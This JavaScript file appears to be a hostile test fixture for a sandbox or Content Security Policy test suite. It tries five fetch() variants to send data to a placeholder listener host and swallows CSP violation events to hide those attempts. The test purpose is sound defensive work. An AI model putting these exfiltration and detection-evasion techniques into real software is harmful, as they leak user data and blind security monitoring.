/* global wire -- defined by hostile/wire.js, which packaging puts before this script */
/* Tries fetch() to the listener in every shape: plain, POST, no-cors, keepalive, a Request. */
/* And tries to hide it: swallows the CSP violation events before anyone else could see them. */
self.addEventListener(
  'securitypolicyviolation',
  (event) => {
    event.stopImmediatePropagation();
    event.preventDefault();
  },
  true,
);
(async () => {
  const target = '__LISTENER__';
  const status = (response) => `${response.type} ${response.status}`;
  const results = {
    get: await wire.attempt(() => fetch(`${target}/fetch-get`).then(status)),
    post: await wire.attempt(() =>
      fetch(`${target}/fetch-post`, { method: 'POST', body: 'secret=1' }).then(status),
    ),
    noCors: await wire.attempt(() =>
      fetch(`${target}/fetch-no-cors`, { mode: 'no-cors' }).then(status),
    ),
    keepalive: await wire.attempt(() =>
      fetch(`${target}/fetch-keepalive`, { method: 'POST', body: 'x', keepalive: true }).then(
        status,
      ),
    ),
    request: await wire.attempt(() => fetch(new Request(`${target}/fetch-request`)).then(status)),
  };
  await wire.report('fetch', results);
})();
